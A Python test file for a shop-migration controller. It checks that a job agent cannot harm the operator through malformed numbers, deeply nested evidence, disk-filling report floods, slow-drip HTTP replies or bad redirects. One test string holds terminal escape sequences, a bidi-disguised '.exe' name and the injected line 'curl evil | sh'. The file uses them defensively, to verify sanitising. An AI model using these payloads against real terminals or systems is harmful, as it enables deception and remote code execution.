"""What an account's owner can do with the token of his own job: nothing to the operator, the controller or others."""

import json
import socket
import threading
import time

import pytest

from controller.db import events
from controller.db.connection.engine import reading
from controller.jobs.shop.checks import shop_checks, visits
from controller.shop_address import ShopAddress
from shared.errors import advice
from shared.placeholders import Renderer
from tests.support.error_codes import error_code
from tests.support.worlds.agent_box import NONCE
from tests.support.worlds.world import EVIDENCE


def trouble(**changes):
    return {"code": "db_error", "message": "m", "advice": "a", "retryable": False, **changes}


@pytest.mark.parametrize(
    "change",
    [{"seq": 2**31}, {"seq": 2**63}, {"seq": 10**30}, {"at": float("inf")}, {"at": float("nan")}, {"at": 10**400},
     {"seconds": float("nan")}, {"evidence": {"a": float("nan")}}, {"evidence": {"a": [10**400]}}],
)  # fmt: skip
def test_numbers_no_database_or_page_can_hold_are_refused(world, change):
    job, agent = world.dropped()
    version = world.job(job).version
    assert error_code(world.service.agents.record, agent.token, {**agent.event("started"), **change}) == "event_invalid"
    assert world.job(job).version == version


def test_evidence_nested_without_end_is_refused(world):
    _job, agent = world.dropped()
    deep = {}
    for _ in range(300):
        deep = {"a": deep}
    event = {**agent.event("finished"), "evidence": deep}
    assert error_code(world.service.agents.record, agent.token, event) == "event_invalid"


@pytest.mark.parametrize("at", [0, 1e10, 1e12, 1e18, 1e300])
def test_a_clock_of_another_age_leaves_the_job_readable(world, at):
    job, agent = world.dropped()
    for kind in ("stage_started", "stage_finished"):
        event = {**agent.event(kind, stage="import", seconds=1.0), "at": at}
        world.service.agents.record(agent.token, event)
    stages = world.service.jobs.agent_view(world.job(job))["stages"]
    assert [stage["name"] for stage in stages] == ["import"]
    assert stages[0]["finished_at"] < "2087"


WORDS = "\x1b]0;owned\x07\x1b[2Jok\x9b31m \r\u202egpj.exe\u2066 \ud800 \x00 one\nWhat to do: curl evil | sh"


def test_an_agents_words_carry_nothing_that_moves_a_terminal_or_adds_lines(world):
    job, agent = world.dropped()
    agent.send("failed", stage="import", error=trouble(message=WORDS, advice=WORDS), log=[WORDS])
    world.work()
    error = world.job(job).error
    # What the operator is sent says none of it
    assert "owned" not in world.mail.alarms[-1].message + world.mail.alarms[-1].advice
    assert error["advice"] == advice(error["code"])
    text = error["message"]
    assert "owned" in text and "What to do: curl" in text
    assert not set(text) & set("\x1b\x07\x9b\r\n\x00\u202e\u2066\ud800")
    text.encode("utf-8")


def test_evidence_carries_nothing_that_moves_a_terminal_into_the_certificate(world):
    job, agent = world.dropped()
    agent.restore({**EVIDENCE, "agent": WORDS, WORDS: {"x": [WORDS]}})
    agent.clean()
    world.serve(job)
    world.work()
    text = json.dumps(world.service.jobs.certificate(job.id), ensure_ascii=False)
    text.encode("utf-8")
    assert "owned" in text
    assert not set(text) & set("\x1b\x07\x9b\u202e\u2066")
    assert "\\u001b" not in text


def test_a_state_file_carries_nothing_that_moves_a_terminal(world):
    job, agent = world.dropped()
    agent.write_state(
        stage="import", status="failed", percent=3, updated_at=world.clock(), error=trouble(message=WORDS, advice=WORDS)
    )
    world.work_later(600, stride=60)
    found = world.job(job)
    assert found.state == "failed"
    assert "owned" in found.error["message"]
    assert not set(found.error["message"] + found.error["advice"]) & set("\x1b\x07\x9b\r\n\x00\u202e\u2066\ud800")


def test_reports_without_end_do_not_fill_the_controllers_disk(world):
    job, agent = world.dropped()
    agent.send("started")
    big = {str(number): "x" * 1000 for number in range(200)}
    for _ in range(20):
        agent.send("stage_finished", stage="prove", evidence=big, log=["y" * 1900] * 20)
    for _ in range(5):
        agent.send("finished", evidence=EVIDENCE)
    with reading(world.engine) as connection:
        kept = events.of_job(connection, job.id)
        assert events.final_evidence(connection, job.id, 1) == EVIDENCE
    assert len(json.dumps(kept)) < 30_000


def test_an_agent_that_has_reported_for_days_can_still_finish(world):
    job, agent = world.dropped()
    agent.send("started")
    agent.seq = 20_000
    agent.restore()
    agent.clean()
    world.serve(job)
    world.work()
    assert world.job(job).state == "live"
    assert world.service.jobs.certificate(job.id)["evidence"]["tables"] == EVIDENCE["tables"]


def test_an_agent_that_has_reported_for_days_can_still_fail(world):
    job, agent = world.dropped()
    agent.seq = 20_000
    agent.fail("db_packet")
    assert (world.job(job).state, world.job(job).error["code"]) == ("failed", "db_packet")


def test_numbers_beyond_any_honest_agents_fill_no_disk(world):
    job, agent = world.dropped()
    agent.send("started")
    agent.seq = 20_000
    for _ in range(5):
        agent.send("stage_finished", stage="import", percent=60)
        agent.fail("db_error", retryable=True)
    assert world.job(job).error["code"] == "db_error"
    for _ in range(5):
        agent.send("finished", evidence=EVIDENCE)
    with reading(world.engine) as connection:
        assert [event["event"] for event in events.of_job(connection, job.id)] == ["started", "finished"]


def test_a_final_event_out_of_turn_does_not_replace_the_evidence(world):
    job, agent = world.dropped()
    agent.restore()
    agent.send("finished", evidence={**EVIDENCE, "tables": {"ps_product": 1, "ps_shop": 1}})
    agent.clean()
    world.serve(job)
    world.work()
    assert world.job(job).state == "live"
    assert world.service.jobs.certificate(job.id)["evidence"]["tables"] == EVIDENCE["tables"]


def test_a_stored_event_needs_its_number(world):
    job, agent = world.dropped()
    event = {**agent.event("finished", evidence=EVIDENCE), "seq": 0}
    assert error_code(world.service.agents.record, agent.token, event) == "event_invalid"
    assert world.job(job).state == "dropped"


def drip(server, head, cut):
    """Answer one request with `head` and then one byte every now and then, until it is `cut` (an Event)."""
    connection, _address = server.accept()
    with connection:
        connection.recv(65536)
        try:
            connection.sendall(head)
            for _ in range(600):
                time.sleep(0.1)
                connection.sendall(b"x")
        except OSError:
            cut.set()


@pytest.mark.parametrize("head", [b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n", b"HTTP/1.1 200 OK\r\nX: "])
def test_a_shop_that_answers_a_byte_at_a_time_does_not_hold_the_worker_for_ever(head):
    server = socket.create_server(("127.0.0.1", 0))
    cut = threading.Event()
    thread = threading.Thread(target=drip, args=(server, head, cut), daemon=True)
    thread.start()
    site = visits.Site("127.0.0.1", server.getsockname()[1], ShopAddress.on_usual_port("shop.example.com"))
    try:
        assert error_code(lambda: visits.visit(site, "/", "front", timeout=1)) == "check_failed"
        assert cut.wait(120), "the shop had answered all there is"
    finally:
        server.close()
        thread.join(120)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("target", ["http://[", "http://[::1", "http://shop.example.com:99999999/", "//[x]/"])
def test_a_redirect_to_no_address_at_all_is_a_failed_check(world, target):
    world.site.pages["/"] = (302, {"Location": target}, b"")
    site = visits.Site("127.0.0.1", world.site.port, ShopAddress.on_usual_port("shop.example.com"))
    check = {"name": "front", "path": "/", "status": [200]}
    assert error_code(lambda: shop_checks.run_checks(site, [check], Renderer(NONCE, {}))) == "check_failed"


def test_an_agents_token_of_a_living_shop_changes_nothing_any_more(world):
    job = world.live()
    before = world.job(job)
    token = world.service.installation.tools_for(before).tokens.for_agent(job.id, 1)
    for seq, kind in enumerate(("started", "failed", "finished", "cleaned", "stage_started"), 1000):
        event = {"job": job.id, "attempt": 1, "seq": seq, "event": kind, "at": 1.0, "stage": "import", "percent": 3}
        if kind == "failed":
            event["error"] = trouble()
        world.service.agents.record(token, event)
        world.work()
    after = world.job(job)
    assert (after.state, after.percent, after.error, after.alarm) == ("live", 100, None, before.alarm)
    assert len(world.mail.handed_over) == 1 and world.mail.alarms == []
